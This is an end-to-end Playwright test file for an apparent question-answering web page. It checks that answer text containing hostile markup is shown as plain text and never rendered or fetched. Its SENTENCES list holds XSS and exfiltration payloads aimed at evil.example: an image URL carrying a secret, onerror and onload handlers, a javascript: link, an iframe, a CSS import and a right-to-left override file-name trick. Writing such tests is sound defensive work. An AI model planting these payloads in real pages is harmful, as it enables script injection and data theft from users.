"""What a document says is text on the page, whatever it is written as: nothing is drawn, run, fetched or followed."""

from __future__ import annotations

import threading

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import Visitor
from tests.ui.fake_api import FakeApi, document

pytestmark = pytest.mark.e2e

QUESTION = "What does the page say?"
SENTENCES = [
    "See ![the chart](https://evil.example/chart.png?q=secret) for more.",
    "<img src='https://evil.example/pixel.png' onerror='window.hacked=1'> is a picture.",
    "Click [here](javascript:window.hacked=1) or <a href='https://evil.example/'>there</a>.",
    "![chart][ref] and [ref]: https://evil.example/ref.png are a reference.",
    "<iframe src='https://evil.example/frame'></iframe><svg onload='window.hacked=1'></svg> draws.",
    "<style>@import url(https://evil.example/a.css)</style> :material/home: **bold** $x^2$ stays.",
    "The file is called invoice\u202etxt.exe\u202c and https://evil.example/plain is a bare address.",
]


def test_nothing_in_an_answer_is_drawn_or_fetched(canned: FakeApi, canned_page: str, english: Visitor) -> None:
    canned.add(document("evil", SENTENCES[0], source=SENTENCES[1]), "\n".join(SENTENCES) + "\n")
    canned.answers[QUESTION] = [(sentence, "evil", sentence) for sentence in SENTENCES]
    half = threading.Semaphore(8)

    def pause() -> None:
        assert half.acquire(timeout=60)

    canned.between_events = pause
    page = english.page
    page.goto(canned_page)
    english.ask(QUESTION)
    expect(page.locator(".fn-answer")).to_contain_text("the chart")  # as it streams
    half.release(10_000)
    for sentence in SENTENCES:
        expect(page.locator(".text").last).to_contain_text(sentence)
    page.locator("button.mark").first.click()
    expect(page.locator("section mark")).to_have_text(SENTENCES[0])
    page.locator("summary").first.click()  # the passages
    english.picture("page-8-hostile-answer")
    for kind in ("img[src*='evil']", "a[href*='evil']", "a[href^='javascript']", "iframe[src*='evil']", "svg[onload]"):
        expect(page.locator(kind)).to_have_count(0)
    assert page.evaluate("window.hacked") is None
    assert not english.elsewhere
    assert not english.broken
